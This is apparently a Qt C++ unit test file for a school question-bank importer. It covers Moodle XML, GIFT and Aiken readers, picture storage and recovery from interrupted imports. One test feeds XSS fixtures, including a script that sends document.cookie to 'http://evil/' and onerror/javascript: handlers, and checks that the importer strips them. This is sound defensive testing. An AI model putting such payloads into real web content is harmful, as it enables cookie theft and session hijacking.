// Which reader a question file goes to, files without a usable question, an
// import the bank refuses taking its pictures away again, and the pictures of
// every reader's texts as the bank stores them.
#include "bank/bankpictures.h"
#include "bankhelpers.h"
#include "exchange/bankexchange.h"
#include "exchange/importfile.h"
#include "exchange/importpictures.h"
#include "exchange/moodlexml.h"
#include "store/engineerror.h"

#include <QDir>
#include <QTemporaryDir>
#include <QTest>
#include <functional>
#include <memory>

using namespace tess::exchange;

class TestImportFile : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void readers_data();
    void readers();
    void refusedImportTakesItsPictures();
    void picturesInProgramForm_data();
    void picturesInProgramForm();
    void newPictureAvoidsNamesTheBankShows();
    void hostileTextsCleaned();
    void storedTextsExportedAsTheyAre();
    void refusedImportLeavesOthersPictures();
    void runningImportIsLeftAlone();
    void killedBetweenBookkeepingSteps_data();
    void killedBetweenBookkeepingSteps();
    void largeFilesFinish();

private:
    QTemporaryDir m_dir;
};

void TestImportFile::readers_data() {
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<int>("questions"); // -1: refused
    QTest::newRow("Aiken with braces in a question")
        << QStringLiteral("集合.txt")
        << QByteArray("集合 {1,2} 有几个子集?\nA. 2\nB. 4\nANSWER: B\n") << 1;
    QTest::newRow("GIFT in a .txt file")
        << QStringLiteral("小测.txt") << QByteArray("::q:: 地球是圆的 {T}\n") << 1;
    QTest::newRow("GIFT file") << QStringLiteral("a.gift")
                               << QByteArray("地球是圆的 {T}\n\n首都? {=北京 ~上海}\n") << 2;
    QTest::newRow("Moodle XML without questions")
        << QStringLiteral("empty.xml") << QByteArray("<?xml version=\"1.0\"?><quiz></quiz>") << -1;
    QTest::newRow("only kinds the bank cannot hold")
        << QStringLiteral("short.gift") << QByteArray("首都? {=北京}\n") << -1;
    QTest::newRow("one choice worth it all, another partial credit")
        << QStringLiteral("partial.xml")
        << QByteArray("<quiz><question type=\"multichoice\"><name><text>q</text></name>"
                      "<questiontext format=\"html\"><text>q</text></questiontext>"
                      "<single>true</single>"
                      "<answer fraction=\"100\"><text>a</text></answer>"
                      "<answer fraction=\"50\"><text>b</text></answer>"
                      "<answer fraction=\"0\"><text>c</text></answer></question></quiz>")
        << 1;
    QTest::newRow("a picture name too long for a file system")
        << QStringLiteral("long.xml")
        << (QByteArray("<quiz><question type=\"truefalse\"><name><text>q</text></name>"
                       "<questiontext format=\"html\"><text>&lt;img src=\"@@PLUGINFILE@@/") +
            QByteArray(70, 'x').replace("x", "图") + QByteArray(".png\"&gt;</text><file name=\"") +
            QByteArray(70, 'x').replace("x", "图") +
            QByteArray(".png\" encoding=\"base64\">aGVsbG8=</file></questiontext>"
                       "<answer fraction=\"100\"><text>true</text></answer>"
                       "<answer fraction=\"0\"><text>false</text></answer></question></quiz>"))
        << -1;
    QTest::newRow("fractions that do not add up")
        << QStringLiteral("frac.xml")
        << QByteArray("<quiz><question type=\"multichoice\"><name><text>q</text></name>"
                      "<questiontext format=\"html\"><text>q</text></questiontext>"
                      "<single>false</single>"
                      "<answer fraction=\"30\"><text>a</text></answer>"
                      "<answer fraction=\"30\"><text>b</text></answer>"
                      "<answer fraction=\"0\"><text>c</text></answer></question></quiz>")
        << -1;
}

void TestImportFile::readers() {
    QFETCH(QString, name);
    QFETCH(QByteArray, content);
    QFETCH(int, questions);
    const QString path = m_dir.filePath(name);
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write(content);
    file.close();
    const QString pictures = m_dir.filePath(QStringLiteral("images"));
    if (questions < 0) {
        QVERIFY_THROWS_EXCEPTION(ExchangeError, readQuestionFile(path, pictures));
        return;
    }
    const Imported imported = readQuestionFile(path, pictures);
    int count = 0;
    for (const Paper& paper : imported.papers)
        count += int(paper.questions.size());
    QCOMPARE(count, questions);
}

void TestImportFile::refusedImportTakesItsPictures() {
    const QString bank = m_dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    banktest::refuseInserts(conn, QStringLiteral("paper"));
    const QString xml = m_dir.filePath(QStringLiteral("pic.xml"));
    QFile file(xml);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("<quiz><question type=\"truefalse\"><name><text>q</text></name>"
               "<questiontext format=\"html\"><text>看图 &lt;img src=\"@@PLUGINFILE@@/a.png\"&gt;"
               "</text><file name=\"a.png\" path=\"/\" encoding=\"base64\">aGVsbG8=</file>"
               "</questiontext><answer fraction=\"100\"><text>true</text></answer>"
               "<answer fraction=\"0\"><text>false</text></answer></question></quiz>");
    file.close();
    const QString pictures = m_dir.filePath(QStringLiteral("refused-images"));
    QVERIFY_THROWS_EXCEPTION(tess::EngineError, importQuestionFile(conn, xml, pictures, QString()));
    QVERIFY(!QDir(pictures).exists());
    QCOMPARE(banktest::count(conn, QStringLiteral("question")), 0);
    // Without the refusal the picture is there and its tag names it.
    banktest::allowInserts(conn, QStringLiteral("paper"));
    QVector<int> ids;
    const Imported imported = importQuestionFile(conn, xml, pictures, QString(), &ids);
    QCOMPARE(imported.warnings, QStringList());
    QCOMPARE(ids.size(), 1);
    QVERIFY(QFileInfo::exists(QDir(pictures).filePath(QStringLiteral("a.png"))));
    // A server bank keeps it too, for the other teachers' machines.
    if (banktest::onServer())
        QCOMPARE(banktest::scalar(conn, QStringLiteral("select convert_from(content, 'UTF8') as v "
                                                       "from picture where name = 'a.png'"))
                     .toString(),
                 QStringLiteral("hello"));
    QVERIFY(readPaper(conn, ids.first())
                .questions.first()
                .html.contains(QStringLiteral("images\\a.png")));
}

namespace {

void writeFile(const QString& path, const QByteArray& bytes) {
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    QCOMPARE(file.write(bytes), bytes.size());
}

const QByteArray kDot = QByteArray::fromBase64("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUl"
                                               "EQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==");

QByteArray moodleTrueFalse(const QByteArray& text, const QByteArray& files = QByteArray()) {
    return "<quiz><question type=\"truefalse\"><name><text>看图</text></name>"
           "<questiontext format=\"html\"><text><![CDATA[" +
           text + "]]></text>" + files +
           "</questiontext><answer fraction=\"100\"><text>true</text></answer>"
           "<answer fraction=\"0\"><text>false</text></answer></question></quiz>";
}

QByteArray moodleFile(const char* name) {
    return "<file name=\"" + QByteArray(name) + "\" path=\"/\" encoding=\"base64\">" +
           kDot.toBase64() + "</file>";
}

} // namespace

// Files far larger than a teacher's are read whole and right: 100,000 short
// questions, one question of 40,000 choices, and a paper of 20,000 true/false
// questions taken into the bank. How fast is for the import benchmark; here
// only that they finish.
void TestImportFile::largeFilesFinish() {
    const QTemporaryDir dir;
    const QString pictures = dir.filePath(QStringLiteral("images"));
    const auto trueFalse = [](int n) {
        QByteArray bytes;
        for (int i = 1; i <= n; ++i)
            bytes += "Q" + QByteArray::number(i) + (i % 2 ? " {T}\n\n" : " {F}\n\n");
        return bytes;
    };

    const QString many = dir.filePath(QStringLiteral("many.gift"));
    writeFile(many, trueFalse(100000));
    const Imported short_ = readQuestionFile(many, pictures);
    QCOMPARE(short_.papers.size(), 1);
    QCOMPARE(short_.papers[0].questions.size(), 100000);
    const Question& last = short_.papers[0].questions.last();
    QCOMPARE(last.html, QStringLiteral("Q100000"));
    QCOMPARE(last.line, 199999);
    QVERIFY(!last.answer);

    QByteArray choices = "Q {\n";
    for (int i = 1; i <= 40000; ++i)
        choices += (i == 40000 ? "=right" : "~wrong") + QByteArray::number(i) + "\n";
    const QString wide = dir.filePath(QStringLiteral("wide.gift"));
    writeFile(wide, choices + "}\n");
    const Imported one = readQuestionFile(wide, pictures);
    QCOMPARE(one.papers.size(), 1);
    QCOMPARE(one.papers[0].questions.size(), 1);
    const Question& question = one.papers[0].questions[0];
    QCOMPARE(question.choices.size(), 40000);
    QCOMPARE(question.choices.first().html, QStringLiteral("wrong1"));
    QVERIFY(!question.choices.first().correct);
    QCOMPARE(question.choices.last().html, QStringLiteral("right40000"));
    QVERIFY(question.choices.last().correct);

    const QString paper = dir.filePath(QStringLiteral("paper.gift"));
    writeFile(paper, trueFalse(20000));
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    QVector<int> ids;
    importQuestionFile(conn, paper, pictures, QString(), &ids);
    QCOMPARE(ids.size(), 1);
    const QString of = QStringLiteral("question where PapIdx = %1").arg(ids[0]);
    QCOMPARE(banktest::count(conn, of), 20000);
    QCOMPARE(banktest::scalar(conn, QStringLiteral("select max(QstIdx) as v from ") + of).toInt(),
             20000);
    QCOMPARE(banktest::scalar(conn, QStringLiteral("select QstCon as v from ") + of +
                                        QStringLiteral(" and QstIdx = 20000"))
                 .toString(),
             QStringLiteral("Q20000"));
    QCOMPARE(banktest::scalar(conn, QStringLiteral("select PapScr as v from paper where PapID = ") +
                                        QString::number(ids[0]))
                 .toInt(),
             20000);
}

// Each reader's texts reach the bank with the pictures of the pictures folder
// in the program's form; what will not show on the page is told. dot.png is
// in the pictures folder.
void TestImportFile::picturesInProgramForm_data() {
    QTest::addColumn<QString>("name");
    QTest::addColumn<QByteArray>("content");
    QTest::addColumn<QString>("text");         // the first question's, as stored
    QTest::addColumn<QStringList>("warnings"); // a part of each line told

    QTest::newRow("Moodle's multichoice example")
        << QStringLiteral("multichoice.xml")
        << QByteArray("<quiz><question type=\"multichoice\"><name><text>Name of question</text>"
                      "</name><questiontext format=\"html\"><text><![CDATA[<p>What is the flag "
                      "of the United Kingdom? <img src=\"@@PLUGINFILE@@/flag-uk.jpg\" "
                      "alt=\"British Flag\" width=\"30\" height=\"20\" /></p>]]></text>") +
               moodleFile("flag-uk.jpg") +
               "</questiontext><single>true</single><answer fraction=\"100\"><text>The "
               "correct answer</text></answer><answer fraction=\"0\"><text>A "
               "distractor</text></answer></question></quiz>"
        << QStringLiteral("<p>What is the flag of the United Kingdom? <IMG "
                          "SRC=\"images\\flag-uk.jpg\" alt=\"British Flag\" width=\"30\" "
                          "height=\"20\" /></p>")
        << QStringList();
    QTest::newRow("Moodle XML naming a picture of the folder")
        << QStringLiteral("folder.xml") << moodleTrueFalse("<IMG src='images/dot.png'>")
        << QStringLiteral("<IMG SRC=\"images\\dot.png\">") << QStringList();
    QTest::newRow("Moodle XML without the file it names")
        << QStringLiteral("gone.xml") << moodleTrueFalse("<img src=\"@@PLUGINFILE@@/gone.png\">")
        << QStringLiteral("<img src=\"@@PLUGINFILE@@/gone.png\">")
        << QStringList{
               QStringLiteral("第 1 行的题目 \"看图\": 图片 \"gone.png\" 不在导入的文件里 "
                              "(文字引用了 @@PLUGINFILE@@/gone.png, 文件却没有带着这幅图片)")};
    // GIFT carries no pictures at all: a file Moodle wrote names them all so.
    QTest::newRow("GIFT naming a picture Moodle did not write")
        << QStringLiteral("plugin.gift")
        << QByteArray("// 导出的题\n\n\n[html]<img src\\=\"@@PLUGINFILE@@/%E5%9B%BE 1.png\"> {T}\n")
        << QStringLiteral("<img src=\"@@PLUGINFILE@@/%E5%9B%BE 1.png\">")
        << QStringList{QStringLiteral("第 4 行的题目: 图片 \"图 1.png\" 不在导入的文件里")};
    QTest::newRow("GIFT in HTML")
        << QStringLiteral("html.gift")
        << QByteArray("::看图:: [html]<p><img src='images/dot.png' width=10>是点吗?</p> {T}\n")
        << QStringLiteral("<p><IMG SRC=\"images\\dot.png\" width=10>是点吗?</p>") << QStringList();
    QTest::newRow("GIFT choices, pictures missing, on the web and elsewhere")
        << QStringLiteral("choices.gift")
        << QByteArray("[html]哪个? {=<img src\\=\"images/none.png\"> ~<img "
                      "src\\=\"https\\://example.org/a.png\"> ~<img src\\=\"../../etc/a.png\"> "
                      "~<img src\\=\"data:image/png;base64,AAAA\">}\n")
        << QStringLiteral("哪个?")
        << QStringList{QStringLiteral("第 1 行的题目: 图片 images\\none.png 不在图片文件夹"),
                       QStringLiteral("图片 https://example.org/a.png 在网上, 没有导入"),
                       QStringLiteral("图片 \"../../etc/a.png\" 不在图片文件夹中, 没有导入")};
    // Aiken is plain text: a tag in it is shown as typed, never taken as a picture.
    QTest::newRow("Aiken text with a tag")
        << QStringLiteral("aiken.txt")
        << QByteArray("看 <img src=\"images/dot.png\">?\nA. 是\nB. 否\nANSWER: A\n")
        << QStringLiteral("看 &lt;img src=&quot;images/dot.png&quot;&gt;?") << QStringList();
}

void TestImportFile::picturesInProgramForm() {
    QFETCH(QString, name);
    QFETCH(QByteArray, content);
    QFETCH(QString, text);
    QFETCH(QStringList, warnings);
    const QTemporaryDir dir;
    const QString path = dir.filePath(name);
    writeFile(path, content);
    const QString pictures = dir.filePath(QStringLiteral("images"));
    QVERIFY(QDir().mkpath(pictures));
    writeFile(pictures + QStringLiteral("/dot.png"), kDot);
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    const Imported imported = importQuestionFile(conn, path, pictures, QString());
    QCOMPARE(banktest::scalar(conn, QStringLiteral("select QstCon as v from question "
                                                   "order by QstID limit 1"))
                 .toString(),
             text);
    QCOMPARE(imported.warnings.size(), warnings.size());
    for (qsizetype i = 0; i < warnings.size(); ++i)
        QVERIFY2(imported.warnings[i].contains(warnings[i]), qPrintable(imported.warnings[i]));
    // Every picture the bank shows is in the folder, and the folder holds
    // nothing the bank does not show but the teacher's own picture.
    const QSet<QString> shown = tess::picturesNamedInBank(conn);
    for (const QString& picture : shown) {
        if (picture != QStringLiteral("none.png"))
            QVERIFY2(QFileInfo::exists(pictures + QLatin1Char('/') + picture), qPrintable(picture));
    }
    for (const QString& file : QDir(pictures).entryList(QDir::Files | QDir::Hidden))
        QVERIFY2(shown.contains(file) || file == QStringLiteral("dot.png"), qPrintable(file));
    QVERIFY(!QFileInfo::exists(pictures + QStringLiteral("/.import")));
}

// A colleague's file with scripts in its category, question and choices: the
// bank stores what is left of them, and the teacher is told how much went.
void TestImportFile::hostileTextsCleaned() {
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    const QString xml = dir.filePath(QStringLiteral("hostile.xml"));
    writeFile(xml,
              "<quiz><question type=\"category\"><category><text><![CDATA[$course$/top/初二/"
              "期中<img src=x onerror=alert(0)>]]></text></category></question>"
              "<question type=\"multichoice\"><name><text>q</text></name>"
              "<questiontext format=\"html\"><text><![CDATA[<p>哪个?"
              "<script>fetch('http://evil/'+document.cookie)</script>"
              "<img src=\"x\" onerror=\"alert(2)\"> <a href=\"javascript:alert(3)\">看</a></p>]]>"
              "</text></questiontext><single>true</single>"
              "<answer fraction=\"100\"><text><![CDATA[<b onclick=\"alert(4)\">甲</b>]]></text>"
              "</answer><answer fraction=\"0\"><text><![CDATA[<i>乙</i>]]></text></answer>"
              "</question></quiz>");
    QVector<int> ids;
    const Imported imported =
        importQuestionFile(conn, xml, dir.filePath(QStringLiteral("images")), QString(), &ids);
    QCOMPARE(ids.size(), 1);
    // The picture x stays, and the teacher is told it is not in the folder.
    QCOMPARE(imported.warnings.size(), 2);
    QCOMPARE(imported.warnings[0],
             QStringLiteral("试卷 \"期中\": 为安全起见删除了 5 处脚本或不安全的内容."));
    QVERIFY2(imported.warnings[1].contains(QStringLiteral("图片 \"x\" 不在图片文件夹")),
             qPrintable(imported.warnings[1]));
    const Paper stored = readPaper(conn, ids.first());
    QCOMPARE(stored.name, QStringLiteral("期中"));
    QCOMPARE(stored.category, QStringLiteral("初二"));
    QCOMPARE(stored.questions.size(), 1);
    QCOMPARE(stored.questions[0].html, QStringLiteral("<p>哪个?<img src=\"x\"> <a>看</a></p>"));
    QCOMPARE(stored.questions[0].choices.size(), 2);
    QCOMPARE(stored.questions[0].choices[0].html, QStringLiteral("<b>甲</b>"));
    QCOMPARE(stored.questions[0].choices[1].html, QStringLiteral("<i>乙</i>"));
}

// What the bank holds is the teacher's, typed in the grids or written by
// another program: export writes it as it is, cleaning only what comes in.
void TestImportFile::storedTextsExportedAsTheyAre() {
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    const QString typed = QStringLiteral("<p onclick=\"go()\">看<script>go()</script></p>");
    banktest::executeInOneTransaction(
        conn,
        {QStringLiteral("insert into paper (PapID, PapNam) values (1, '自编')"),
         QStringLiteral("insert into question (QstID, PapIdx, QstIdx, QstTyp, QstScr, IsTrue, "
                        "QstCon) values (1, 1, 1, '判断题', 1, 1, '%1')")
             .arg(typed)});
    const Paper stored = readPaper(conn, 1);
    QCOMPARE(stored.questions.size(), 1);
    QCOMPARE(stored.questions[0].html, typed);
    const QString xml =
        QString::fromUtf8(writeMoodleXml(stored, dir.filePath(QStringLiteral("images"))));
    QVERIFY2(xml.contains(QStringLiteral("<![CDATA[") + typed + QStringLiteral("]]>")),
             qPrintable(xml));
}

// A text of the bank shows flag.png, which the folder lacks: the import's
// flag.png takes another name, or that text would show it.
void TestImportFile::newPictureAvoidsNamesTheBankShows() {
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    banktest::executeInOneTransaction(
        conn, {QStringLiteral("insert into paper (PapID, PapNam) values (1, '旧卷')"),
               QStringLiteral("insert into question (QstID, PapIdx, QstIdx, QstCon) values "
                              "(1, 1, 1, '<IMG SRC=\"images\\flag.png\">')")});
    const QString xml = dir.filePath(QStringLiteral("flag.xml"));
    writeFile(xml,
              moodleTrueFalse("<img src=\"@@PLUGINFILE@@/flag.png\">", moodleFile("flag.png")));
    const QString pictures = dir.filePath(QStringLiteral("images"));
    importQuestionFile(conn, xml, pictures, QString());
    QCOMPARE(
        QDir(pictures).entryList(QDir::Files | QDir::Hidden | QDir::Dirs | QDir::NoDotAndDotDot),
        QStringList{QStringLiteral("flag (2).png")});
    QCOMPARE(
        banktest::scalar(conn, QStringLiteral("select QstCon as v from question where PapIdx <> 1"))
            .toString(),
        QStringLiteral("<IMG SRC=\"images\\flag (2).png\">"));
}

// What an import still at work keeps aside is not its leftovers: settling
// leftovers, as a second program starting meanwhile does, leaves it alone.
namespace {

// What runs while the import under test waits: set by a test, run once at the
// import's first picture written aside.
std::function<void()> g_whileImporting;

void runWhileImporting(ImportStage stage) {
    if (stage != ImportStage::PictureWritten || !g_whileImporting)
        return;
    const auto run = std::move(g_whileImporting);
    g_whileImporting = nullptr;
    run();
}

} // namespace

// An import refused by a bank another program holds removes only what it
// wrote itself: a picture the teacher put in the folder meanwhile, and those
// of an import that committed meanwhile, stay, and so does the folder.
void TestImportFile::refusedImportLeavesOthersPictures() {
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    conn.setBusyTimeout(200);
    banktest::BankConnection other(bank);
    const QString pictures = dir.filePath(QStringLiteral("images")); // made by the imports
    const QString mine = dir.filePath(QStringLiteral("mine.xml"));
    const QString theirs = dir.filePath(QStringLiteral("theirs.xml"));
    writeFile(mine, moodleTrueFalse("<img src=\"@@PLUGINFILE@@/mine.png\">",
                                    "<file name=\"mine.png\" encoding=\"base64\">" +
                                        QByteArray("mine").toBase64() + "</file>"));
    writeFile(theirs,
              moodleTrueFalse("<img src=\"@@PLUGINFILE@@/theirs.png\">", moodleFile("theirs.png")));

    std::unique_ptr<banktest::BankHolder> holder;
    QVector<int> theirIds;
    g_whileImporting = [&] {
        writeFile(QDir(pictures).filePath(QStringLiteral("teacher.png")), kDot);
        importQuestionFile(other, theirs, pictures, QString(), &theirIds);
        holder = std::make_unique<banktest::BankHolder>(bank, banktest::BankHolder::Hold::Writes);
    };
    setImportProbe(runWhileImporting);
    QVERIFY_THROWS_EXCEPTION(tess::EngineError,
                             importQuestionFile(conn, mine, pictures, QString()));
    setImportProbe(nullptr);
    QVERIFY(holder);
    holder.reset();

    const QDir folder(pictures);
    QCOMPARE(folder.entryList(QDir::Files),
             QStringList({QStringLiteral("teacher.png"), QStringLiteral("theirs.png")}));
    QVERIFY(!folder.exists(QStringLiteral(".import")));
    QCOMPARE(theirIds.size(), 1);
    QCOMPARE(banktest::count(conn, QStringLiteral("paper")), 1);
}

void TestImportFile::runningImportIsLeftAlone() {
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    const QString pictures = dir.filePath(QStringLiteral("images"));
    {
        ImportPictures running(pictures);
        QCOMPARE(running.place(QStringLiteral("a.png"), kDot, 1), QStringLiteral("a.png"));
        QVERIFY(running.holds(QStringLiteral("a.png")));
        QVERIFY(!QFileInfo::exists(pictures + QStringLiteral("/a.png")));
        QCOMPARE(finishInterruptedImports(conn, pictures), 0);
        QCOMPARE(running.moveIn(), QStringList());
        QCOMPARE(QFile(pictures + QStringLiteral("/a.png")).size(), kDot.size());
    }
    QCOMPARE(
        QDir(pictures).entryList(QDir::Files | QDir::Hidden | QDir::Dirs | QDir::NoDotAndDotDot),
        QStringList{QStringLiteral("a.png")});
}

// Killed between two steps of its own bookkeeping, an import leaves an empty
// .import, or a lock file it had created but not yet written: neither may
// pass for an import still at work, or the leftovers would stay for good.
void TestImportFile::killedBetweenBookkeepingSteps_data() {
    QTest::addColumn<bool>("withToken");
    QTest::newRow("empty .import") << false;
    QTest::newRow("lock file created, not written") << true;
}

void TestImportFile::killedBetweenBookkeepingSteps() {
    QFETCH(bool, withToken);
    const QTemporaryDir dir;
    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
    banktest::freshBank(bank);
    banktest::BankConnection conn(bank);
    const QString pictures = dir.filePath(QStringLiteral("images"));
    const QString token = pictures + QStringLiteral("/.import/Ab12Cd");
    QVERIFY(QDir().mkpath(withToken ? token + QStringLiteral("/pictures")
                                    : pictures + QStringLiteral("/.import")));
    if (withToken) {
        QFile lock(token + QStringLiteral("/lock"));
        QVERIFY(lock.open(QIODevice::WriteOnly)); // empty, as a killed writer leaves it
        QFile picture(token + QStringLiteral("/pictures/a.png"));
        QVERIFY(picture.open(QIODevice::WriteOnly));
        picture.write(kDot);
    }
    QCOMPARE(finishInterruptedImports(conn, pictures), 0);
    QCOMPARE(
        QDir(pictures).entryList(QDir::Files | QDir::Hidden | QDir::Dirs | QDir::NoDotAndDotDot),
        QStringList());
}

QTEST_GUILESS_MAIN(TestImportFile)
#include "tst_importfile.moc"
